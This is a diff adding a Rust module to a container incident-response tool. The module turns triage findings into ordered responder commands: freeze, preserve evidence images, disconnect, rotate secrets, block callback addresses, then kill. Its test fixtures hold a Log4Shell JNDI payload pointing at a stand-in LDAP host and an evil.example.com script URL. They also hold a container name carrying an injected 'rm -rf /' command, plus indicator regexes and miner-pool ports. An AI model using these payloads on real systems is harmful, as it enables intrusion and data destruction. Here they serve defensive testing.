@@ -1,9 +1,575 @@
-//! The response plan: what to do now, derived from the findings (PLACEHOLDER).
+//! The response plan: what to do now, derived from the containers and the findings, with
+//! the exact commands. Ordered as a responder works: record and freeze, preserve, cut off,
+//! act on what the findings say, kill last.
 
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::OnceLock;
+
+use regex::Regex;
+
+use crate::evidence::ArtifactKind;
 use crate::model::Finding;
 use crate::report::{BundleReport, ResponseStep};
 
+/// Exposure rules that make an escape to the host likely.
+const ESCAPE_RULES: &[&str] = &[
+    "exposure.privileged",
+    "exposure.runtime-socket",
+    "exposure.host-root-mount",
+    "exposure.host-pid",
+    "exposure.cap-add",
+];
+/// Finding categories whose summaries carry the attacker's addresses.
+const IOC_CATEGORIES: &[&str] = &["initial-access", "command-and-control"];
+/// Characters of a finding summary quoted in a step's `why`.
+const QUOTE_MAX: usize = 240;
+/// Today's date as the tag of evidence images (evaluated by the responder's shell).
+const DATE: &str = "$(date -u +%Y%m%d)";
+
+/// A container the plan acts on.
+struct Target {
+    name: String,
+    id: String,
+    running: bool,
+    /// Networks to disconnect; None when unknown.
+    networks: Option<Vec<String>>,
+    host_network: bool,
+    /// Kubernetes pod namespace and name (dockershim labels), when known.
+    pod: Option<(String, String)>,
+}
+
 /// Steps for the responder, in order.
-pub fn plan(_report: &BundleReport, _findings: &[Finding]) -> Vec<ResponseStep> {
-    vec![]
+pub fn plan(report: &BundleReport, findings: &[Finding]) -> Vec<ResponseStep> {
+    let targets = targets(report);
+    let mut steps = vec![];
+    let have: BTreeSet<ArtifactKind> = report.artifacts.iter().map(|a| a.kind).collect();
+    // Rules of the findings about each container (titles read `<container>: <what>`).
+    let mut rules_of: BTreeMap<&str, BTreeSet<&str>> = BTreeMap::new();
+    for f in findings {
+        if let Some((owner, _)) = f.title.split_once(": ") {
+            rules_of.entry(owner).or_default().insert(f.rule.as_str());
+        }
+    }
+    let answers = |name: &str| -> String {
+        match rules_of.get(name) {
+            Some(rules) => format!("answers {}", rules.iter().copied().collect::<Vec<_>>().join(", ")),
+            None => "no finding names it, but it is part of this incident's evidence".into(),
+        }
+    };
+
+    // 1. Record the veth (exec fails once paused), then freeze.
+    for t in targets.iter().filter(|t| t.running && !t.host_network) {
+        let n = q(&t.name);
+        steps.push(ResponseStep {
+            step: format!("Record the host-side network interface of {} (before pausing)", t.name),
+            why: format!(
+                "docker exec does not work on a paused container; the number printed is the host ifindex of \
+                 the container's veth (needed to cut it off later); {}",
+                answers(&t.name)
+            ),
+            commands: vec![
+                format!("IFLINK=$(docker exec {n} cat /sys/class/net/eth0/iflink)"),
+                format!(
+                    "nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ip -o link show eth0"
+                ),
+            ],
+        });
+    }
+    for t in targets.iter().filter(|t| t.running) {
+        steps.push(ResponseStep {
+            step: format!("Freeze {}", t.name),
+            why: format!(
+                "docker pause stops every process in it (cgroup freezer) without losing memory, open \
+                 connections or files; {}",
+                answers(&t.name)
+            ),
+            commands: vec![format!("docker pause {}", q(&t.name))],
+        });
+    }
+
+    // 2. Preserve: the container as an image, and whatever this bundle lacks.
+    for t in &targets {
+        let image = format!("ctriage-evidence/{}:{DATE}", repo_name(&t.name));
+        let file = format!("{}-{DATE}.image.tar", repo_name(&t.name));
+        steps.push(ResponseStep {
+            step: format!("Preserve {} as an evidence image", t.name),
+            why: format!(
+                "docker commit keeps the container's changed files (its top layer) as an image, so the scene \
+                 survives the kill; {}",
+                answers(&t.name)
+            ),
+            commands: vec![
+                format!("docker commit {} {image}", q(&t.id)),
+                format!("docker save {image} -o {file}"),
+                format!("sha256sum {file}"),
+            ],
+        });
+        let stem = repo_name(&t.name);
+        let n = q(&t.name);
+        let mut capture = vec![];
+        let mut lacking = vec![];
+        let mut want = |kinds: &[ArtifactKind], what: &'static str, cmd: String| {
+            if !kinds.iter().any(|k| have.contains(k)) {
+                lacking.push(what);
+                capture.push(cmd);
+            }
+        };
+        want(&[ArtifactKind::Inspect], "inspect", format!("docker inspect {n} > {stem}.inspect.json"));
+        want(
+            &[ArtifactKind::JsonFileLog, ArtifactKind::DockerLogsTimestamped],
+            "logs",
+            format!("docker logs -t {n} > {stem}.logs.txt 2>&1"),
+        );
+        if t.running {
+            want(
+                &[ArtifactKind::Top],
+                "top",
+                format!("docker top {n} -eo pid,ppid,user,lstart,args > {stem}.top.txt"),
+            );
+        }
+        want(&[ArtifactKind::Diff], "diff", format!("docker diff {n} > {stem}.diff.txt"));
+        want(&[ArtifactKind::FilesystemTar], "export", format!("docker export {n} -o {stem}.export.tar"));
+        if !capture.is_empty() {
+            capture.push(format!("sha256sum {stem}.* > {stem}.sha256"));
+            steps.push(ResponseStep {
+                step: format!("Capture what this bundle lacks for {}: {}", t.name, lacking.join(", ")),
+                why: "the bundle holds no such capture; take it before the container is gone".into(),
+                commands: capture,
+            });
+        }
+    }
+
+    // 3. Contain: off the network.
+    for t in targets.iter().filter(|t| t.running) {
+        let n = q(&t.name);
+        if t.host_network {
+            steps.push(ResponseStep {
+                step: format!("Block {}'s traffic on the host firewall", t.name),
+                why:
+                    "it shares the host's network namespace: there is no network to disconnect and no veth; \
+                      filter by its processes or stop it"
+                        .into(),
+                commands: vec![format!("docker top {n} -eo pid,args"), "ss -tnp".into()],
+            });
+            continue;
+        }
+        let commands = match &t.networks {
+            Some(nets) if !nets.is_empty() => {
+                nets.iter().map(|net| format!("docker network disconnect {} {n}", q(net))).collect()
+            }
+            _ => vec![format!(
+                "for net in $(docker inspect -f '{{{{range $k, $v := .NetworkSettings.Networks}}}}{{{{$k}}}} {{{{end}}}}' {n}); do docker network disconnect \"$net\" {n}; done"
+            )],
+        };
+        steps.push(ResponseStep {
+            step: format!("Disconnect {} from its networks", t.name),
+            why: format!("cuts the attacker's channel and any lateral movement; {}", answers(&t.name)),
+            commands,
+        });
+        steps.push(ResponseStep {
+            step: format!("Take {}'s host-side veth down", t.name),
+            why: "if the disconnect fails or the daemon does not answer, the veth recorded in the first step \
+                  still cuts the container off at the host"
+                .into(),
+            commands: vec![
+                "ip -o link | grep \"^${IFLINK}:\"".into(),
+                "ip link set \"$(ip -o link | awk -F': ' -v n=\"$IFLINK\" '$1 == n {sub(/@.*/, \"\", $2); print $2}')\" down"
+                    .into(),
+            ],
+        });
+    }
+
+    // 4. What the findings call for.
+    finding_steps(&mut steps, &targets, findings);
+
+    // 5. Kill last, once the evidence is safe.
+    for t in targets.iter().filter(|t| t.running) {
+        steps.push(ResponseStep {
+            step: format!("Kill {} once its evidence is saved", t.name),
+            why: "last: killing ends the attacker's processes but also loses memory and process state".into(),
+            commands: vec![format!("docker kill -s KILL {}", q(&t.name))],
+        });
+    }
+    steps
+}
+
+fn finding_steps(steps: &mut Vec<ResponseStep>, targets: &[Target], findings: &[Finding]) {
+    let by_rule = |rule: &str| -> Vec<&Finding> { findings.iter().filter(|f| f.rule == rule).collect() };
+    let owner = |f: &Finding| f.title.split_once(": ").map(|(n, _)| n.to_string()).unwrap_or_default();
+
+    let escape: Vec<&Finding> = findings.iter().filter(|f| ESCAPE_RULES.contains(&f.rule.as_str())).collect();
+    if !escape.is_empty() {
+        let names: BTreeSet<String> = escape.iter().map(|f| owner(f)).collect();
+        let rules: BTreeSet<&str> = escape.iter().map(|f| f.rule.as_str()).collect();
+        steps.push(ResponseStep {
+            step: "Check the host and every other container: an escape is likely".into(),
+            why: format!(
+                "{} could reach the host ({}); assume the host and its other containers are compromised \
+                 until shown otherwise",
+                names.into_iter().collect::<Vec<_>>().join(", "),
+                rules.into_iter().collect::<Vec<_>>().join(", ")
+            ),
+            commands: vec![
+                "docker ps -a --no-trunc".into(),
+                "docker events --since 72h --until \"$(date -u +%Y-%m-%dT%H:%M:%SZ)\"".into(),
+                "docker images --digests --no-trunc".into(),
+                "ls -la /etc/cron.d /var/spool/cron /root/.ssh /etc/systemd/system /etc/ld.so.preload".into(),
+                "find / -xdev -newer /etc/hostname -type f \\( -perm -4000 -o -path '/tmp/*' -o -path '/dev/shm/*' \\) -ls 2>/dev/null"
+                    .into(),
+                "last -Faiw | head -50".into(),
+            ],
+        });
+    }
+
+    // Secrets: per container, names only.
+    let mut secrets: BTreeMap<String, Vec<&Finding>> = BTreeMap::new();
+    for f in by_rule("exposure.env-secrets") {
+        secrets.entry(owner(f)).or_default().push(f);
+    }
+    for (name, fs) in secrets {
+        let names = fs.first().map(|f| secret_names(&f.summary)).unwrap_or_default();
+        steps.push(ResponseStep {
+            step: format!("Rotate the secrets in {name}'s environment: {names}"),
+            why: "exposure.env-secrets: every process in the container (and the attacker) could read them; \
+                  change them where they are issued and check their use since the compromise"
+                .into(),
+            commands: vec![],
+        });
+    }
+
+    for f in by_rule("exposure.k8s-token") {
+        let name = owner(f);
+        let (ns, pod) = targets
+            .iter()
+            .find(|t| t.name == name)
+            .and_then(|t| t.pod.clone())
+            .unwrap_or_else(|| ("<namespace>".into(), "<pod>".into()));
+        steps.push(ResponseStep {
+            step: format!("Revoke and rotate the Kubernetes service account of {name}"),
+            why: "exposure.k8s-token: the mounted token lets the attacker call the cluster API; see what it \
+                  may do, what it did (API server audit log), and invalidate it"
+                .into(),
+            commands: vec![
+                format!("NS={}; POD={}", q(&ns), q(&pod)),
+                "SA=$(kubectl -n \"$NS\" get pod \"$POD\" -o jsonpath='{.spec.serviceAccountName}')".into(),
+                "kubectl auth can-i --list --as=system:serviceaccount:$NS:$SA".into(),
+                "kubectl get rolebindings,clusterrolebindings -A -o wide | grep -w \"$SA\"".into(),
+                "grep \"system:serviceaccount:$NS:$SA\" /var/log/kubernetes/audit/audit.log".into(),
+                "kubectl -n \"$NS\" delete pod \"$POD\"   # bound tokens die with the pod; delete legacy token secrets of $SA too".into(),
+            ],
+        });
+    }
+
+    for f in by_rule("stats.cpu-high") {
+        let name = owner(f);
+        let n = q(&name);
+        steps.push(ResponseStep {
+            step: format!("Look for a cryptominer in {name} and its pool connections"),
+            why: format!("stats.cpu-high: {}", clip(&f.summary)),
+            commands: vec![
+                format!("docker top {n} -eo pid,ppid,user,pcpu,lstart,args"),
+                format!("nsenter -t \"$(docker inspect -f '{{{{.State.Pid}}}}' {n})\" -n ss -tnp"),
+                "conntrack -L -p tcp 2>/dev/null | grep -E 'dport=(3333|4444|5555|7777|9999|14444|45700)'"
+                    .into(),
+            ],
+        });
+    }
+
+    let iocs: Vec<&Finding> =
+        findings.iter().filter(|f| IOC_CATEGORIES.contains(&f.category.as_str())).collect();
+    if !iocs.is_empty() {
+        let quoted: Vec<String> =
+            iocs.iter().map(|f| format!("{}: \"{}\"", f.rule, clip(&f.summary))).collect();
+        let (ips, hosts) = indicators(&iocs);
+        let mut block: Vec<String> = ips
+            .iter()
+            .flat_map(|ip| {
+                [
+                    format!("iptables -I DOCKER-USER -d {ip} -j DROP"),
+                    format!("iptables -I DOCKER-USER -s {ip} -j DROP"),
+                ]
+            })
+            .collect();
+        block.extend(hosts.iter().map(|h| format!("# block {h} at the DNS resolver / egress proxy")));
+        steps.push(ResponseStep {
+            step: "Block the attacker's callback addresses".into(),
+            why: format!("the findings name them: {}", quoted.join("; ")),
+            commands: block,
+        });
+        let all: Vec<&String> = ips.iter().chain(hosts.iter()).collect();
+        let hunt = if all.is_empty() {
+            vec![]
+        } else {
+            let pats: String = all.iter().map(|i| format!(" -e {}", q(i))).collect();
+            vec![format!("grep -rIlF{pats} /var/lib/docker/containers /var/log")]
+        };
+        steps.push(ResponseStep {
+            step: "Hunt for the same indicators on other hosts and containers".into(),
+            why: format!(
+                "the same exploit is usually sprayed at every exposed host ({})",
+                iocs.iter()
+                    .map(|f| f.rule.as_str())
+                    .collect::<BTreeSet<_>>()
+                    .into_iter()
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            ),
+            commands: hunt,
+        });
+    }
+}
+
+/// The containers to act on: from inspect, else from ps listings; sorted by name.
+fn targets(report: &BundleReport) -> Vec<Target> {
+    let mut out: BTreeMap<String, Target> = BTreeMap::new();
+    for c in &report.containers {
+        let h = c.host_config.as_ref();
+        let mode = h.and_then(|h| h.network_mode.as_deref());
+        let label = |k: &str| c.config.labels.get(k).filter(|v| !v.is_empty()).cloned();
+        let networks: Vec<String> = c.network.networks.iter().map(|n| n.name.clone()).collect();
+        out.entry(c.handle().to_string()).or_insert(Target {
+            name: c.handle().to_string(),
+            id: c.id.clone(),
+            running: c.state.running || c.state.paused || c.state.restarting,
+            networks: (!networks.is_empty()).then_some(networks),
+            host_network: mode == Some("host") || networks_are(c, "host"),
+            pod: label("io.kubernetes.pod.namespace").zip(label("io.kubernetes.pod.name")),
+        });
+    }
+    if out.is_empty() {
+        for r in &report.ps {
+            let networks = (!r.networks.is_empty()).then(|| r.networks.clone());
+            let host_network = r.networks == ["host"];
+            out.entry(r.handle().to_string()).or_insert(Target {
+                name: r.handle().to_string(),
+                id: r.container_id.clone(),
+                running: r.is_running(),
+                networks,
+                host_network,
+                pod: None,
+            });
+        }
+    }
+    out.into_values().collect()
+}
+
+fn networks_are(c: &crate::ingest::inspect::ContainerInfo, name: &str) -> bool {
+    matches!(c.network.networks.as_slice(), [only] if only.name == name)
+}
+
+/// A container name as an image repository component: lower case, `[a-z0-9_.-]`.
+fn repo_name(name: &str) -> String {
+    let s: String = name
+        .chars()
+        .map(|c| c.to_ascii_lowercase())
+        .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '-') { c } else { '_' })
+        .collect();
+    let s = s.trim_start_matches(['_', '.', '-']);
+    if s.is_empty() {
+        "container".into()
+    } else {
+        s.to_string()
+    }
+}
+
+/// Quote for a POSIX shell (names come from hostile evidence).
+fn q(s: &str) -> String {
+    if !s.is_empty() && s.chars().all(|c| c.is_ascii_alphanumeric() || "_.-/:@=+,".contains(c)) {
+        s.to_string()
+    } else {
+        format!("'{}'", s.replace('\'', "'\\''"))
+    }
+}
+
+fn clip(s: &str) -> String {
+    if s.chars().count() <= QUOTE_MAX {
+        s.to_string()
+    } else {
+        format!("{}…", s.chars().take(QUOTE_MAX).collect::<String>())
+    }
+}
+
+/// The variable names an env-secrets finding lists (`...: NAME, NAME; why`).
+fn secret_names(summary: &str) -> String {
+    summary.split_once("): ").map(|(_, r)| r).unwrap_or(summary).split(';').next().unwrap_or("").to_string()
+}
+
+/// IPv4 addresses and host names in the findings' text, sorted and deduplicated.
+fn indicators(findings: &[&Finding]) -> (BTreeSet<String>, BTreeSet<String>) {
+    static IP: OnceLock<Regex> = OnceLock::new();
+    static HOST: OnceLock<Regex> = OnceLock::new();
+    let ip = IP.get_or_init(|| Regex::new(r"\b(?:\d{1,3}\.){3}\d{1,3}\b").expect("static regex"));
+    let host = HOST.get_or_init(|| {
+        Regex::new(r"(?i)\b(?:ldaps?|rmi|dns|iiop|corba|nis|nds|https?|tcp|udp|stratum\+tcp|stratum\+ssl)://([a-z0-9][a-z0-9.-]*[a-z0-9])")
+            .expect("static regex")
+    });
+    let mut ips = BTreeSet::new();
+    let mut hosts = BTreeSet::new();
+    for f in findings {
+        for text in [&f.title, &f.summary] {
+            for m in ip.find_iter(text) {
+                let ok = m.as_str().split('.').all(|o| o.parse::<u8>().is_ok());
+                if ok && !m.as_str().starts_with("127.") && !m.as_str().starts_with("0.") {
+                    ips.insert(m.as_str().to_string());
+                }
+            }
+            for c in host.captures_iter(text) {
+                if let Some(h) = c.get(1) {
+                    let h = h.as_str().to_ascii_lowercase();
+                    if !ips.contains(&h) && h.parse::<std::net::Ipv4Addr>().is_err() && h != "localhost" {
+                        hosts.insert(h);
+                    }
+                }
+            }
+        }
+    }
+    (ips, hosts)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::evidence::{BundleKind, Compression};
+    use crate::ingest::inspect::parse_bytes;
+    use crate::ingest::pslist::PsRow;
+    use crate::model::{Locator, Severity};
+    use crate::report::ArtifactRecord;
+
+    const INSPECT: &str = r#"[{"Id":"4f2a9c1be0d3aa55e0f1c2d3b4a59687","Name":"/web",
+        "State":{"Running":true,"Pid":84010,"StartedAt":"2026-11-27T13:58:02Z"},
+        "HostConfig":{"Privileged":true,"NetworkMode":"bridge"},
+        "Mounts":[{"Type":"bind","Source":"/var/run/docker.sock","Destination":"/var/run/docker.sock","RW":true}],
+        "Config":{"Env":["DB_PASSWORD=x1","API_TOKEN=y2"],"Image":"tomcat"},
+        "NetworkSettings":{"Networks":{"bridge":{"IPAddress":"172.17.0.2"},"backend":{"IPAddress":"172.20.0.5"}}}},
+        {"Id":"9c1e7b2a8f0011","Name":"/old","State":{"Running":false,"StartedAt":"2026-11-27T10:00:00Z",
+        "FinishedAt":"2026-11-27T11:00:00Z"},"Config":{"User":"app"}}]"#;
+
+    fn bundle(kinds: &[ArtifactKind]) -> BundleReport {
+        BundleReport {
+            path: "case".into(),
+            kind: BundleKind::Directory,
+            artifacts: kinds
+                .iter()
+                .map(|k| ArtifactRecord {
+                    path: k.as_str().into(),
+                    kind: *k,
+                    size: 1,
+                    sha256: None,
+                    compression: Compression::None,
+                    error: None,
+                    note: None,
+                })
+                .collect(),
+            containers: vec![],
+            image_objects: vec![],
+            processes: vec![],
+            stats: vec![],
+            diff: vec![],
+            ps: vec![],
+            image: Default::default(),
+            logs: Default::default(),
+            findings: vec![],
+            timeline: vec![],
+            response_plan: vec![],
+            diagnostics: vec![],
+        }
+    }
+
+    fn jndi() -> Finding {
+        Finding {
+            rule: "log.jndi".into(),
+            severity: Severity::Critical,
+            category: "initial-access".into(),
+            title: "JNDI lookup in a request".into(),
+            summary:
+                "GET /?x=${jndi:ldap://198.51.100.7:1389/Exploit} and callback http://evil.example.com/a.sh"
+                    .into(),
+            attack: Some("T1190".into()),
+            time: None,
+            evidence: vec![Locator::artifact("access.log").with_line(3)],
+        }
+    }
+
+    #[test]
+    fn preserve_then_contain_then_kill() {
+        let mut b = bundle(&[ArtifactKind::Inspect, ArtifactKind::JsonFileLog]);
+        let (doc, _) = parse_bytes(INSPECT.as_bytes(), &Locator::artifact("inspect.json"));
+        b.containers = doc.containers;
+        let mut findings = crate::analyze::exposure::audit(&b.containers);
+        findings.push(jndi());
+        let plan = plan(&b, &findings);
+        let steps: Vec<&str> = plan.iter().map(|s| s.step.as_str()).collect();
+        assert_eq!(
+            steps,
+            [
+                "Record the host-side network interface of web (before pausing)",
+                "Freeze web",
+                "Preserve old as an evidence image",
+                "Capture what this bundle lacks for old: diff, export",
+                "Preserve web as an evidence image",
+                "Capture what this bundle lacks for web: top, diff, export",
+                "Disconnect web from its networks",
+                "Take web's host-side veth down",
+                "Check the host and every other container: an escape is likely",
+                "Rotate the secrets in web's environment: DB_PASSWORD, API_TOKEN",
+                "Block the attacker's callback addresses",
+                "Hunt for the same indicators on other hosts and containers",
+                "Kill web once its evidence is saved",
+            ]
+        );
+        let cmds = |i: usize| plan[i].commands.join("\n");
+        assert_eq!(cmds(1), "docker pause web");
+        assert!(cmds(4).starts_with(
+            "docker commit 4f2a9c1be0d3aa55e0f1c2d3b4a59687 ctriage-evidence/web:$(date -u +%Y%m%d)"
+        ));
+        assert!(cmds(5).contains("docker top web -eo pid,ppid,user,lstart,args > web.top.txt"));
+        assert_eq!(cmds(6), "docker network disconnect backend web\ndocker network disconnect bridge web");
+        assert!(cmds(10).contains("iptables -I DOCKER-USER -d 198.51.100.7 -j DROP"), "{}", cmds(10));
+        assert!(cmds(10).contains("evil.example.com"));
+        assert!(plan[10].why.contains("${jndi:ldap://198.51.100.7:1389/Exploit}"));
+        assert!(cmds(11).contains("-e 198.51.100.7 -e evil.example.com"), "{}", cmds(11));
+        assert!(
+            plan[8].why.contains("exposure.privileged") && plan[8].why.contains("exposure.runtime-socket")
+        );
+        assert!(plan[1].why.contains("answers exposure.env-secrets, exposure.no-limits"), "{}", plan[1].why);
+        assert_eq!(cmds(12), "docker kill -s KILL web");
+        // Same input, same plan.
+        assert_eq!(plan, super::plan(&b, &findings));
+    }
+
+    #[test]
+    fn ps_listing_targets_and_hostile_names() {
+        let mut b = bundle(&[
+            ArtifactKind::Ps,
+            ArtifactKind::Inspect,
+            ArtifactKind::DockerLogsTimestamped,
+            ArtifactKind::Top,
+            ArtifactKind::Diff,
+            ArtifactKind::FilesystemTar,
+        ]);
+        b.ps = vec![
+            PsRow {
+                container_id: "aa00bb11cc22".into(),
+                names: vec!["x; rm -rf /".into()],
+                state: Some("running".into()),
+                ..Default::default()
+            },
+            PsRow {
+                container_id: "dd00".into(),
+                names: vec!["gone".into()],
+                state: Some("exited".into()),
+                ..Default::default()
+            },
+        ];
+        let plan = plan(&b, &[]);
+        let all: Vec<String> = plan.iter().flat_map(|s| s.commands.clone()).collect();
+        assert!(all.contains(&"docker pause 'x; rm -rf /'".to_string()), "{all:?}");
+        assert!(all
+            .iter()
+            .any(|c| c.starts_with("docker commit aa00bb11cc22 ctriage-evidence/x__rm_-rf__:")));
+        assert!(all.iter().any(|c| c.starts_with("for net in $(docker inspect")));
+        assert!(!all.iter().any(|c| c.contains("pause gone") || c.contains("kill -s KILL gone")));
+        assert!(all.iter().any(|c| c.starts_with("docker commit dd00 ")));
+        assert!(!plan.iter().any(|s| s.step.starts_with("Capture")), "every capture is in the bundle");
+    }
 }
